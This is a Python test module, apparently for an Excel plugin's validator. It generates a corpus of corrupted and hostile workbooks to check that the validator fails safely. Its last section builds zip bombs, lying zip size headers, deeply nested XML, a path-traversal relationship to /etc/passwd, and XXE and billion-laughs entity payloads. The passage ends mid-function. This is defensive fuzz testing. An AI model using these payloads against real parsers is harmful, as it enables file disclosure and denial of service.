"""The fault corpus: damaged, odd and hostile workbooks derived from the shipped sample.

Built by code, not picked by hand: the sample workbook is built once (the real template
build over `sample_dokumen()`), and every case edits a copy of its zip parts (zipfile +
lxml) or its bytes. Cases are declared in `CASES` (category, name, how to make it);
`build_corpus()` writes them under `build/test-corpus/<key>/`, where `<key>` hashes the
product sources and this file, so a second run reuses the files.

Cell addresses come from the layout (`xlplugin.layout`), never written here literally.
"""

from __future__ import annotations

import hashlib
import io
import random
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from lxml import etree

from xlplugin.layout import load_layout
from xlplugin.layout.model import column_index, column_letter

ROOT = Path(__file__).resolve().parents[2]
CORPUS_ROOT = ROOT / "build" / "test-corpus"
SECRET_MARKER = "XLPLUGIN-RAHASIA-XXE-7f3a9c"  # must never appear in any output
NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
N = f"{{{NS}}}"
NS_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS_PR = "http://schemas.openxmlformats.org/package/2006/relationships"

LAYOUT = load_layout()
TABLES = LAYOUT.tables
PROFIL = LAYOUT.profil
TEMUAN = LAYOUT.outputs["Temuan"].sheet
INPUT_SHEETS = [PROFIL.sheet] + [t.sheet for t in TABLES.values()]


@dataclass(frozen=True)
class Case:
    category: str
    name: str
    make: Callable  # (Book) -> None edits the parts, or (bytes) -> bytes when raw
    raw: bool = False  # works on the file's bytes, not on its parts
    expect: str = "any"  # "any": report or clear error; "refused": must exit 2
    suffix: str = ".xlsm"
    # how the runner calls the CLI (`runner.OUTPUTS`): "" is `validate FILE --json -o
    # SALINAN`; the others aim the output at a missing or unwritable folder, a name too
    # long, a wrong extension, go --in-place through a symbolic link, or read a FIFO
    run: str = ""

    @property
    def id(self) -> str:
        return f"{self.category}/{self.name}"

    def file_name(self) -> str:
        return re.sub(r"[^A-Za-z0-9_.-]+", "_", self.id) + self.suffix


# ---------------------------------------------------------------- the package as parts
class Book:
    """A workbook's zip parts in their order, with sheet-level XML editing."""

    def __init__(self, data: bytes):
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            self.parts = {i.filename: zf.read(i) for i in zf.infolist()}
        self.sheet_parts = _sheet_parts(self.parts)

    def part_of(self, sheet: str) -> str:
        return self.sheet_parts[sheet]

    def tree(self, sheet: str):
        return etree.fromstring(self.parts[self.part_of(sheet)])

    def put(self, sheet: str, root) -> None:
        self.parts[self.part_of(sheet)] = etree.tostring(root, xml_declaration=True,
                                                         encoding="UTF-8", standalone=True)

    def edit(self, sheet: str, fn: Callable) -> None:
        root = self.tree(sheet)
        fn(root)
        self.put(sheet, root)

    def text(self, part: str) -> str:
        return self.parts[part].decode("utf-8")

    def set_text(self, part: str, text: str) -> None:
        self.parts[part] = text.encode("utf-8")

    def to_bytes(self) -> bytes:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
            for name, data in self.parts.items():
                zf.writestr(name, data)
        return buf.getvalue()


def _sheet_parts(parts: dict[str, bytes]) -> dict[str, str]:
    wb = etree.fromstring(parts["xl/workbook.xml"])
    rels = etree.fromstring(parts["xl/_rels/workbook.xml.rels"])
    targets = {r.get("Id"): r.get("Target") for r in rels.iter(f"{{{NS_PR}}}Relationship")}
    out = {}
    for s in wb.iter(N + "sheet"):
        target = targets[s.get(f"{{{NS_R}}}id")]
        out[s.get("name")] = target.lstrip("/") if target.startswith("/") else "xl/" + target
    return out


# ---------------------------------------------------------------- cell edits (lxml)
def split(ref: str) -> tuple[int, int]:
    m = re.fullmatch(r"([A-Z]+)(\d+)", ref)
    return int(m[2]), column_index(m[1])


def rows_of(root) -> dict[int, object]:
    return {int(r.get("r")): r for r in root.find(N + "sheetData").iter(N + "row")}


def cell(root, ref: str):
    """The <c> element at ref, created (in order) when absent."""
    row_no, col = split(ref)
    rows = rows_of(root)
    row = rows.get(row_no)
    if row is None:
        row = etree.Element(N + "row", r=str(row_no))
        later = sorted(n for n in rows if n > row_no)
        if later:
            rows[later[0]].addprevious(row)
        else:
            root.find(N + "sheetData").append(row)
    for i, c in enumerate(row):
        r = c.get("r")
        if r == ref:
            return c
        if split(r)[1] > col:
            new = etree.Element(N + "c", r=ref)
            row.insert(i, new)
            return new
    return etree.SubElement(row, N + "c", r=ref)


def _reset(c) -> None:
    for child in list(c):
        c.remove(child)
    c.attrib.pop("t", None)


def put_text(root, ref: str, text: str) -> None:
    c = cell(root, ref)
    _reset(c)
    c.set("t", "inlineStr")
    t = etree.SubElement(etree.SubElement(c, N + "is"), N + "t")
    t.text = text
    t.set("{http://www.w3.org/XML/1998/namespace}space", "preserve")


def put_number(root, ref: str, value: str) -> None:
    c = cell(root, ref)
    _reset(c)
    etree.SubElement(c, N + "v").text = value


def put_error(root, ref: str, code: str) -> None:
    c = cell(root, ref)
    _reset(c)
    c.set("t", "e")
    etree.SubElement(c, N + "v").text = code


def put_empty(root, ref: str) -> None:
    _reset(cell(root, ref))


def add_merge(root, ref: str) -> None:
    merges = root.find(N + "mergeCells")
    if merges is None:
        merges = etree.Element(N + "mergeCells")
        anchor = root.find(N + "sheetData")
        anchor.addnext(merges)
        for tag in ("sheetProtection", "autoFilter"):  # schema order: after these
            el = root.find(N + tag)
            if el is not None:
                el.addnext(merges)
    etree.SubElement(merges, N + "mergeCell", ref=ref)
    merges.set("count", str(len(merges)))


def first(table_key: str, field: str, offset: int = 0) -> str:
    t = TABLES[table_key]
    return t.cell(field, t.first_row + offset)


def columns_of(types: tuple[str, ...], inputs_only: bool = True):
    for t in TABLES.values():
        for c in t.columns:
            if c.type in types and (c.is_input or not inputs_only):
                yield t, c


# ---------------------------------------------------------------- case makers
CASES: list[Case] = []


def case(category: str, name: str, *, raw: bool = False, expect: str = "any",
         suffix: str = ".xlsm"):
    def register(fn):
        CASES.append(Case(category, name, fn, raw, expect, suffix))
        return fn
    return register


def add(category: str, name: str, fn: Callable, **kw) -> None:
    CASES.append(Case(category, name, fn, **kw))


def _cell_edit(sheet: str, edit: Callable, ref: str, *args) -> Callable:
    return lambda book: book.edit(sheet, lambda root: edit(root, ref, *args))


# 1. Damaged containers -------------------------------------------------------------
def _declare_damaged() -> None:
    cat = "zip rusak"
    for frac in (0.01, 0.05, 0.1, 0.25, 0.5, 0.75, 0.9, 0.99):
        add(cat, f"terpotong-{int(frac * 100)}pct",
            lambda data, f=frac: data[: int(len(data) * f)], raw=True)
    add(cat, "terpotong-akhir-1", lambda data: data[:-1], raw=True)
    add(cat, "tanpa-direktori-pusat", lambda data: data[: data.rfind(b"PK\x01\x02")],
        raw=True)
    add(cat, "kosong", lambda data: b"", raw=True)
    add(cat, "satu-bita", lambda data: b"P", raw=True)
    add(cat, "teks-biasa", lambda data: b"Ini bukan buku kerja.\n", raw=True)
    add(cat, "pdf", lambda data: b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
        raw=True)
    add(cat, "html", lambda data: b"<html><body><table><tr><td>1</td></tr></table></body>"
        b"</html>", raw=True)
    add(cat, "header-zip-lalu-sampah",
        lambda data: b"PK\x03\x04" + random.Random(3).randbytes(4000), raw=True)
    for seed in range(1, 13):
        add(cat, f"bita-rusak-{seed}", lambda data, s=seed: _flip(data, s), raw=True)
    add(cat, "entri-ganda", _duplicate_entry, raw=True)
    for sheet in (PROFIL.sheet, TABLES["KAK"].sheet, TEMUAN):
        add(cat, f"deflate-rusak-{sheet}", lambda data, s=sheet: _spoil_stream(data, s),
            raw=True)
        add(cat, f"crc-salah-{sheet}", lambda data, s=sheet: _wrong_crc(data, s), raw=True)


def _wrong_crc(data: bytes, sheet: str) -> bytes:
    """A sheet whose stored CRC-32 does not match its (intact) content."""
    import struct
    part = _sheet_parts(Book(data).parts)[sheet].encode()
    out = bytearray(data)
    for sig, name_at, crc_at in ((b"PK\x03\x04", 30, 14), (b"PK\x01\x02", 46, 16)):
        pos = 0
        while (pos := out.find(sig, pos)) >= 0:
            if bytes(out[pos + name_at: pos + name_at + len(part)]) == part:
                crc = struct.unpack_from("<I", out, pos + crc_at)[0]
                struct.pack_into("<I", out, pos + crc_at, crc ^ 0xFFFF)
            pos += 4
    return bytes(out)


def _spoil_stream(data: bytes, sheet: str) -> bytes:
    """Garble the middle of one sheet's compressed stream (its CRC no longer matches)."""
    part = _sheet_parts(Book(data).parts)[sheet]
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(part)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    out = bytearray(data)
    middle = start + info.compress_size // 2
    out[middle: middle + 64] = bytes(64)
    return bytes(out)


def _flip(data: bytes, seed: int) -> bytes:
    rng = random.Random(seed)
    out = bytearray(data)
    for _ in range(24):
        pos = rng.randrange(30, len(out) - 30)
        out[pos] ^= rng.randrange(1, 256)
    return bytes(out)


def _duplicate_entry(data: bytes) -> bytes:
    book = Book(data)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, part in book.parts.items():
            zf.writestr(name, part)
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            zf.writestr("xl/workbook.xml", b"<bukan xml")
    return buf.getvalue()


# 2. Removed or broken parts ---------------------------------------------------------
def _declare_broken() -> None:
    broken = ["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml",
              "xl/_rels/workbook.xml.rels", "xl/styles.xml"]
    broken += [f"@{s}" for s in (*INPUT_SHEETS, TEMUAN)]
    for name in broken:
        add("xml rusak", f"terpotong-{name.lstrip('@')}", lambda b, n=name: _cut_part(b, n))
    add("xml rusak", "workbook-bukan-utf8",
        lambda b: b.parts.__setitem__("xl/workbook.xml", b.parts["xl/workbook.xml"]
                                      .decode().encode("utf-16")))
    add("xml rusak", "sheet-kosong-nol-bita",
        lambda b: b.parts.__setitem__(b.part_of(TABLES["KAK"].sheet), b""))
    add("xml rusak", "rels-target-di-luar-paket", _rels_outside)
    add("xml rusak", "rels-target-absolut", _rels_absolute)
    add("xml rusak", "sheet-tanpa-nama", _sheet_without_name)
    add("xml rusak", "sheet-tanpa-rid", _sheet_without_rid)


def _cut_part(book: Book, name: str) -> None:
    part = book.part_of(name[1:]) if name.startswith("@") else name
    data = book.parts[part]
    book.parts[part] = data[: len(data) // 2]


def _rels_outside(book: Book) -> None:
    part = "xl/_rels/workbook.xml.rels"
    target = book.part_of(TABLES["Peserta"].sheet).removeprefix("xl/")
    book.set_text(part, book.text(part).replace(f'Target="{target}"',
                                                'Target="../../../../etc/passwd"'))


def _rels_absolute(book: Book) -> None:
    part = "xl/_rels/workbook.xml.rels"
    target = book.part_of(TABLES["KAK"].sheet).removeprefix("xl/")
    book.set_text(part, book.text(part).replace(f'Target="{target}"',
                                                f'Target="/xl/{target}"'))


def _sheet_without_name(book: Book) -> None:
    text = book.text("xl/workbook.xml")
    book.set_text("xl/workbook.xml", text.replace(f'name="{TABLES["RAB"].sheet}"', "", 1))


def _sheet_without_rid(book: Book) -> None:
    text = book.text("xl/workbook.xml")
    pattern = rf'(<sheet [^>]*name="{re.escape(TABLES["KAK"].sheet)}"[^>]*?)\s+r:id="[^"]+"'
    book.set_text("xl/workbook.xml", re.sub(pattern, r"\1", text, count=1))


# 3. Sheets renamed, deleted, reordered ----------------------------------------------
def _rename_sheet(book: Book, old: str, new: str) -> None:
    text = book.text("xl/workbook.xml")
    book.set_text("xl/workbook.xml", text.replace(f'name="{_attr(old)}"', f'name="{_attr(new)}"',
                                                  1))
    book.sheet_parts[new] = book.sheet_parts.pop(old)


def _attr(text: str) -> str:
    return text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")


def _delete_sheet(book: Book, name: str) -> None:
    text = book.text("xl/workbook.xml")
    text = re.sub(rf'<sheet [^>]*name="{re.escape(_attr(name))}"[^>]*/>', "", text, count=1)
    book.set_text("xl/workbook.xml", text)


def _declare_sheets() -> None:
    cat = "sheet"
    for sheet in INPUT_SHEETS + [TEMUAN]:
        add(cat, f"ganti-nama-{sheet}", lambda b, s=sheet: _rename_sheet(b, s, f"{s} (2)"))
        add(cat, f"hapus-{sheet}", lambda b, s=sheet: _delete_sheet(b, s))
    for sheet in INPUT_SHEETS[:5]:
        add(cat, f"huruf-kecil-spasi-{sheet}",
            lambda b, s=sheet: _rename_sheet(b, s, f" {s.lower()}  "))
    add(cat, "nama-dengan-kutip", lambda b: _rename_sheet(b, TABLES["KAK"].sheet, "KAK'x\"y"))
    add(cat, "nama-non-latin", lambda b: _rename_sheet(b, TABLES["RAB"].sheet, "رَب 预算"))
    add(cat, "urutan-dibalik", _reverse_sheets)
    add(cat, "nama-ganda", lambda b: _rename_sheet(b, TABLES["Jadwal"].sheet,
                                                    TABLES["KAK"].sheet))


def _reverse_sheets(book: Book) -> None:
    text = book.text("xl/workbook.xml")
    sheets = re.findall(r"<sheet [^>]*/>", text)
    start, end = text.index(sheets[0]), text.index(sheets[-1]) + len(sheets[-1])
    book.set_text("xl/workbook.xml", text[:start] + "".join(reversed(sheets)) + text[end:])


# 4. Header columns moved, renamed, missing, shifted ---------------------------------
def _swap_columns(root, a: int, b: int) -> None:
    for row in root.find(N + "sheetData").iter(N + "row"):
        cells = list(row)
        for c in cells:
            r, col = split(c.get("r"))
            if col in (a, b):
                c.set("r", f"{column_letter(b if col == a else a)}{r}")
        cells.sort(key=lambda c: split(c.get("r"))[1])
        for c in cells:
            row.remove(c)
        row.extend(cells)


def _shift_rows(root, start: int, by: int) -> None:
    for row in root.find(N + "sheetData").iter(N + "row"):
        n = int(row.get("r"))
        if n >= start:
            row.set("r", str(n + by))
            for c in row:
                r, col = split(c.get("r"))
                c.set("r", f"{column_letter(col)}{r + by}")
    for tag in ("mergeCells", "conditionalFormatting", "dataValidations", "tableParts"):
        for el in root.findall(N + tag):  # ranges would point at the wrong rows
            root.remove(el)
    dim = root.find(N + "dimension")
    if dim is not None:
        root.remove(dim)


def _declare_headers() -> None:
    cat = "judul kolom"
    for key, t in TABLES.items():
        inputs = [c for c in t.columns if c.is_input]
        a, b = inputs[0].index, inputs[min(2, len(inputs) - 1)].index
        add(cat, f"tukar-kolom-{key}",
            lambda bk, s=t.sheet, a=a, b=b: bk.edit(s, lambda r: _swap_columns(r, a, b)))
        ref = f"{inputs[1].letter}{t.header_row}"
        add(cat, f"ganti-judul-{key}", _cell_edit(t.sheet, put_text, ref, "Kolom Saya"))
        add(cat, f"judul-kosong-{key}",
            lambda bk, t=t: bk.edit(t.sheet, lambda r: [put_empty(r, f"{c.letter}{t.header_row}")
                                                         for c in t.columns]))
        add(cat, f"judul-turun-3-baris-{key}",
            lambda bk, t=t: bk.edit(t.sheet, lambda r: _shift_rows(r, t.header_row, 3)))
        add(cat, f"judul-huruf-besar-{key}",
            _cell_edit(t.sheet, put_text, f"{inputs[0].letter}{t.header_row}",
                       f"  {inputs[0].header.upper()} * "))
    for f in PROFIL.fields[:4]:
        add("profil", f"label-diganti-{f.key}",
            _cell_edit(PROFIL.sheet, put_text, f"{PROFIL.label_column}{f.row}", "Label lain"))
    add("profil", "semua-nilai-kosong",
        lambda bk: bk.edit(PROFIL.sheet, lambda r: [put_empty(r, PROFIL.cell(f.key))
                                                     for f in PROFIL.fields]))
    add("profil", "baris-turun-2",
        lambda bk: bk.edit(PROFIL.sheet, lambda r: _shift_rows(r, PROFIL.fields[0].row, 2)))
    add("profil", "pagu-negatif", _cell_edit(PROFIL.sheet, put_number, PROFIL.cell("pagu"),
                                            "-1500000000"))
    add("profil", "pagu-1e300", _cell_edit(PROFIL.sheet, put_number, PROFIL.cell("pagu"),
                                          "1E+300"))
    add("profil", "tahun-teks", _cell_edit(PROFIL.sheet, put_text,
                                          PROFIL.cell("tahun_anggaran"), "dua ribu dua tiga"))
    add("profil", "tahun-9999", _cell_edit(PROFIL.sheet, put_number,
                                          PROFIL.cell("tahun_anggaran"), "9999"))


# 5. Merged cells over input rows -----------------------------------------------------
def _declare_merges() -> None:
    for key, t in TABLES.items():
        last = t.columns[-1].letter
        span = f"{t.columns[0].letter}{t.first_row}:{last}{t.first_row + 2}"
        add("sel gabung", f"gabung-baris-{key}",
            lambda bk, s=t.sheet, span=span: bk.edit(s, lambda r: add_merge(r, span)))
    kak = TABLES["KAK"]
    col = kak.column("nama_kegiatan").letter
    add("sel gabung", "gabung-satu-kolom-KAK",
        lambda bk: bk.edit(kak.sheet, lambda r: add_merge(r, f"{col}{kak.first_row}:"
                                                          f"{col}{kak.last_row}")))
    add("sel gabung", "gabung-judul-KAK",
        lambda bk: bk.edit(kak.sheet, lambda r: add_merge(
            r, f"A{kak.header_row}:{kak.columns[3].letter}{kak.header_row}")))
    add("sel gabung", "gabung-profil",
        lambda bk: bk.edit(PROFIL.sheet, lambda r: add_merge(
            r, f"{PROFIL.value_column}{PROFIL.fields[0].row}:"
               f"{PROFIL.value_column}{PROFIL.fields[5].row}")))


# 6-8. Text in number cells, dates as text, Excel error values ------------------------
NUMBER_TEXTS = ["satu juta", "1.500.000", "Rp 2.500.000,-", "12abc", " ", "1e999", "NaN",
                "-0", "∞", "1,5", "Rp. 1.000.000,50", "(500.000)", "٣٢٠", "1 000 000",
                "0x1F", "--5", "12%", "1.2.3"]
DATE_TEXTS = ["17 Agustus 2023", "17/08/2023", "2023-08-17", "31 Februari 2023",
              "17-08-23", "Agt 2023", "2023-13-45", "00/00/0000", "17 Agt. 2023",
              "2023-08-17T10:00:00", "Senin, 17 Agustus 2023", "17.08.2023", "8/17/2023",
              "besok"]
DATE_NUMBERS = ["0", "-1", "2958466", "1E+10", "44927.75"]
ERRORS = ["#REF!", "#N/A", "#VALUE!", "#DIV/0!", "#NAME?", "#NUM!", "#NULL!"]


def _declare_values() -> None:
    numeric = list(columns_of(("money", "int", "decimal", "percent")))
    for i, (t, c) in enumerate(numeric):
        text = NUMBER_TEXTS[i % len(NUMBER_TEXTS)]
        add("teks di sel angka", f"{t.key}.{c.key}",
            _cell_edit(t.sheet, put_text, first(t.key, c.key), text))
    dates = list(columns_of(("date",)))
    for i, text in enumerate(DATE_TEXTS):
        t, c = dates[i % len(dates)]
        add("tanggal sebagai teks", f"{t.key}.{c.key}-{i}",
            _cell_edit(t.sheet, put_text, first(t.key, c.key), text))
    for i, text in enumerate(DATE_NUMBERS):
        t, c = dates[(i + 3) % len(dates)]
        add("tanggal sebagai teks", f"serial-{t.key}.{c.key}-{text}",
            _cell_edit(t.sheet, put_number, first(t.key, c.key), text))
    add("tanggal sebagai teks", "profil-tanggal-teks",
        _cell_edit(PROFIL.sheet, put_text, PROFIL.cell("tanggal_rencana"), "17 Agustus 2023"))
    kinds = ("code", "text", "money", "int", "date", "bool", "nik", "enum", "percent")
    for i, kind in enumerate(kinds):
        t, c = next(columns_of((kind,)))
        code = ERRORS[i % len(ERRORS)]
        add("galat Excel", f"{code}-{t.key}.{c.key}",
            _cell_edit(t.sheet, put_error, first(t.key, c.key), code))
    for code in ERRORS:
        add("galat Excel", f"{code}-profil-pagu",
            _cell_edit(PROFIL.sheet, put_error, PROFIL.cell("pagu"), code))
    kak = TABLES["KAK"]
    add("galat Excel", "galat-di-judul",
        _cell_edit(kak.sheet, put_error, f"{kak.columns[0].letter}{kak.header_row}", "#REF!"))
    add("galat Excel", "galat-di-rumus-anggaran",
        _cell_edit(kak.sheet, put_error, first("KAK", "anggaran"), "#REF!"))
    add("galat Excel", "galat-tak-dikenal",
        _cell_edit(kak.sheet, put_error, first("KAK", "jpl"), "#GALAT_ANEH!"))


# 9. Formulas replaced by constants ---------------------------------------------------
def _strip_formulas(root, col_letter: str, value: str | None) -> None:
    for c in root.iter(N + "c"):
        if c.get("r").rstrip("0123456789") != col_letter:
            continue
        f = c.find(N + "f")
        if f is None:
            continue
        c.remove(f)
        if value is not None:
            _reset(c)
            etree.SubElement(c, N + "v").text = value


def _declare_formulas() -> None:
    cat = "rumus jadi konstan"
    for t in TABLES.values():
        for c in t.columns:
            if not c.formula:
                continue
            add(cat, f"{t.key}.{c.key}-nilai-tersimpan",
                lambda bk, t=t, c=c: bk.edit(t.sheet, lambda r: _strip_formulas(r, c.letter,
                                                                                  None)))
            add(cat, f"{t.key}.{c.key}-angka-salah",
                lambda bk, t=t, c=c: bk.edit(t.sheet, lambda r: _strip_formulas(r, c.letter,
                                                                                  "123")))
        if t.status:
            add(cat, f"{t.key}-status-tanpa-rumus",
                lambda bk, t=t: bk.edit(t.sheet, lambda r: _strip_formulas(
                    r, t.status_letter, None)))
    kak = TABLES["KAK"]
    add(cat, "rumus-array-rusak",
        lambda bk: bk.set_text(bk.part_of(kak.sheet), re.sub(
            r'(<f t="array" ref=")[^"]*"', r'\1ZZ0:"', bk.text(bk.part_of(kak.sheet)), 1)))


# 10-12. Size: empty formatted rows, long strings, non-Latin text ---------------------
def _empty_rows(root, start: int, count: int, style: str) -> None:
    data = root.find(N + "sheetData")
    for n in range(start, start + count):
        row = etree.SubElement(data, N + "row", r=str(n), s=style, customFormat="1")
        etree.SubElement(row, N + "c", r=f"A{n}", s=style)
        etree.SubElement(row, N + "c", r=f"B{n}", s=style)


def _declare_size() -> None:
    cat = "baris kosong besar"
    for key in ("Peserta", "RAB", "KAK"):
        t = TABLES[key]
        add(cat, f"50000-baris-berformat-{key}",
            lambda bk, t=t: bk.edit(t.sheet, lambda r: _empty_rows(r, t.last_row + 1, 50_000,
                                                                  "29")))
    add(cat, "sel-di-baris-1048576",
        _cell_edit(TABLES["Sentra"].sheet, put_text, "A1048576", "ujung"))
    add(cat, "sel-di-XFD1048576",
        _cell_edit(TABLES["Sentra"].sheet, put_text, "XFD1048576", "ujung"))
    add(cat, "sel-di-kolom-XFD",
        _cell_edit(TABLES["Sentra"].sheet, put_text, f"XFD{TABLES['Sentra'].first_row}", "x"))
    add(cat, "isian-di-bawah-kapasitas",
        _cell_edit(TABLES["KAK"].sheet, put_text, first("KAK", "kode_kegiatan",
                                                       TABLES["KAK"].capacity + 3), "K99"))
    cat = "teks panjang"
    for n, label in ((32_767, "32767"), (100_000, "100rb"), (1_000_000, "1jt")):
        add(cat, f"nama-kegiatan-{label}",
            _cell_edit(TABLES["KAK"].sheet, put_text, first("KAK", "nama_kegiatan"),
                       ("Pelatihan " * (n // 10 + 1))[:n]))
    add(cat, "kode-kegiatan-5000", _cell_edit(TABLES["KAK"].sheet, put_text,
                                            first("KAK", "kode_kegiatan"), "K" * 5000))
    add(cat, "nik-panjang", _cell_edit(TABLES["Peserta"].sheet, put_text,
                                     first("Peserta", "nik"), "3" * 10_000))
    add(cat, "multi-baris", _cell_edit(TABLES["KAK"].sheet, put_text, first("KAK", "lokasi"),
                                      "baris\n" * 10_000))
    add(cat, "judul-panjang", _cell_edit(TABLES["RAB"].sheet, put_text,
                                       f"B{TABLES['RAB'].header_row}", "Judul " * 5000))
    add(cat, "profil-panjang", _cell_edit(PROFIL.sheet, put_text, PROFIL.cell("kab_kota"),
                                        "Kabupaten " * 20_000))
    cat = "teks non-Latin"
    texts = {"arab": "تدريب الصناعات الصغيرة", "cina": "小型工业培训中心", "devanagari":
             "लघु उद्योग प्रशिक्षण", "jawa": "ꦥꦼꦭꦠꦶꦲꦤ꧀", "emoji": "Pelatihan 🧵🪡👩‍🏭",
             "rtl-override": "\u202eanitsaP\u202c", "lebar-nol": "Pe\u200blat\u200dihan\ufeff",
             "gabung": "Pe\u0301lati\u0308han", "escape-excel": "_x0000_ _x001F_ _xD83D_",
             "cyrillic": "Кабупатен Сукамаджу", "campuran-arah": "abc ابج 123 אבג"}
    for label, text in texts.items():
        add(cat, f"nama-{label}", _cell_edit(TABLES["KAK"].sheet, put_text,
                                             first("KAK", "nama_kegiatan"), text))
    add(cat, "nik-angka-arab", _cell_edit(TABLES["Peserta"].sheet, put_text,
                                        first("Peserta", "nik"), "٣٢٠١٠١٢٣٤٥٦٧٨٩٠١"))
    add(cat, "nik-lebar-penuh", _cell_edit(TABLES["Peserta"].sheet, put_text,
                                         first("Peserta", "nik"), "３２０１０１２３４５６７８９０１"))
    add(cat, "kode-kegiatan-non-latin", _cell_edit(TABLES["KAK"].sheet, put_text,
                                                 first("KAK", "kode_kegiatan"), "К01"))
    add(cat, "menu-emoji", _cell_edit(TABLES["KAK"].sheet, put_text, first("KAK", "menu"),
                                    "🅰"))


# 13. Hostile: zip bombs, XXE, formula injection, macros ------------------------------
def _bomb_part(book: Book, size: int) -> None:
    book.parts["xl/media/bom.xml"] = b"<a>" + b"0" * size + b"</a>"


def _raw_rezip(data: bytes, edit: Callable) -> bytes:
    """Edit the central directory: fields the zip states about itself may lie."""
    out = bytearray(data)
    edit(out)
    return bytes(out)


def _lie_sizes(buf: bytearray, part: str, size: int) -> None:
    name = part.encode()
    import struct
    pos = 0
    while (pos := buf.find(b"PK\x01\x02", pos)) >= 0:
        n = struct.unpack_from("<H", buf, pos + 28)[0]
        if bytes(buf[pos + 46: pos + 46 + n]) == name:
            struct.pack_into("<I", buf, pos + 24, size)  # uncompressed size
        pos += 4
    pos = 0
    while (pos := buf.find(b"PK\x03\x04", pos)) >= 0:
        n = struct.unpack_from("<H", buf, pos + 26)[0]
        if bytes(buf[pos + 30: pos + 30 + n]) == name:
            struct.pack_into("<I", buf, pos + 22, size)
        pos += 4


def _deflate_max(data: bytes, name: str, part: bytes) -> bytes:
    """The package with one more part, deflated at the highest level."""
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(buf, "w") as out:
        for info in src.infolist():
            out.writestr(info, src.read(info))
        out.writestr(name, part, zipfile.ZIP_DEFLATED, compresslevel=9)
    return buf.getvalue()


def _many_parts(book: Book, count: int) -> None:
    for i in range(count):
        book.parts[f"xl/media/x{i}.bin"] = b""


def _deep_xml(book: Book) -> None:
    depth = 200_000
    part = book.part_of(TABLES["Sentra"].sheet)
    text = book.text(part)
    book.set_text(part, text.replace("<sheetData>", "<sheetData>" + "<x>" * depth
                                     + "</x>" * depth, 1))


def _declare_bombs() -> None:
    cat = "bom zip"
    add(cat, "bagian-300MB-nol", lambda bk: _bomb_part(bk, 300 * 2**20), expect="refused")
    # Within the absolute caps (a part <= 64 MiB, all <= 256 MiB) and, at this corpus's
    # deflate level 1, under the ratio limit: nothing here can outgrow the memory those
    # caps allow, so a report is as good an outcome as a refusal.
    add(cat, "bagian-60MB-nol", lambda bk: _bomb_part(bk, 60 * 2**20))
    add(cat, "sheet-disisip-40MB",
        lambda bk: bk.parts.__setitem__(bk.part_of(TABLES["Sentra"].sheet), bk.parts[
            bk.part_of(TABLES["Sentra"].sheet)].replace(b"<sheetData>", b"<sheetData>"
                                                        + b" " * (40 * 2**20), 1)))
    add(cat, "bagian-60MB-nol-deflate-maksimum",  # ~1030x: only a bomb packs so well
        lambda data: _deflate_max(data, "xl/media/bom.xml", b"<a>" + b"0" * (60 * 2**20)
                                  + b"</a>"), raw=True, expect="refused")
    add(cat, "ukuran-bohong-besar",
        lambda d: _raw_rezip(d, lambda b: _lie_sizes(b, "xl/styles.xml", 4_000_000_000)),
        raw=True, expect="refused")
    add(cat, "ukuran-bohong-kecil",
        lambda d: _raw_rezip(d, lambda b: _lie_sizes(b, _sheet_parts(Book(d).parts)[
            TABLES["RAB"].sheet], 100)), raw=True)
    add(cat, "10000-bagian", lambda bk: _many_parts(bk, 10_000), expect="refused")
    add(cat, "xml-bersarang-200rb", _deep_xml)


XXE_FILE = "xxe-rahasia.txt"


def _doctype(kind: str, root_tag: str) -> str:
    secret = (CORPUS_ROOT / XXE_FILE).as_uri()
    if kind == "file":
        return f'<!DOCTYPE {root_tag} [<!ENTITY xxe SYSTEM "{secret}">]>'
    if kind == "param":
        return (f'<!DOCTYPE {root_tag} [<!ENTITY % p SYSTEM "{secret}"> %p;'
                f'<!ENTITY % d SYSTEM "http://127.0.0.1:9/x.dtd"> %d;]>')
    if kind == "lol":
        ents = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">'
                                         for i in range(1, 10)]
        return f"<!DOCTYPE {root_tag} [{''.join(ents)}]>"
    raise ValueError(kind)


def _xxe(book: Book, part: str, kind: str, ref_text: str) -> None:
    text = book.text(part)
    text = re.sub(r"^<\?xml[^>]*\?>", "", text).lstrip()
    root_tag = re.match(r"<([A-Za-z_:][\w:.-]*)", text)[1]
    text = f'<?xml version="1.0" encoding="UTF-8"?>\n{_doctype(kind, root_tag)}\n{text}'
    if ref_text:
        text = text.replace(ref_text[0], ref_text[1], 1)
    book.set_text(part, text)


def _shared_strings_xxe(book: Book, kind: str) -> None:
    """Move one text cell to a shared string whose text is the entity."""
    ent = "&xxe;" if kind == "file" else "&l9;"
    doctype = _doctype(kind, "sst")
    book.parts["xl/sharedStrings.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n<sst xmlns="{NS}" count="1" '
        f'uniqueCount="1"><si><t>{ent}</t></si></sst>').encode()
    types = book.text("[Content_Types].xml").replace(
        "</Types>", '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    book.set_text("[Content_Types].xml", types)
    rels = book.text("xl/_rels/workbook.xml.rels").replace(
        "</Relationships>", '<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
        "</Relationships>")
    book.set_text("xl/_rels/workbook.xml.rels", rels)
    ref = first("KAK", "nama_kegiatan")

    def to_shared(root):
        c = cell(root, ref)
        _reset(c)
        c.set("t", "s")
        etree.SubElement(c, N + "v").text = "0"
